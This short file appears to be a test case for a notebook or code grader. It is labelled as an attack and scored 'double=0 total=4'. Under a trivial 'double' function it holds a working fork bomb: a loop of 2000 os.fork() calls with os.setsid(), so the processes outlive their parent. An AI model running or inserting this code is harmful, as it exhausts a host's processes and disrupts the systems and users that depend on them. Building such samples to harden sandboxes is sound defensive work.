# attack: a fork bomb at the top of a cell, which goes on after its parent has ended
# points: double=0 total=4
# %% double
import os
def double(x): return x
for _ in range(2000):
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
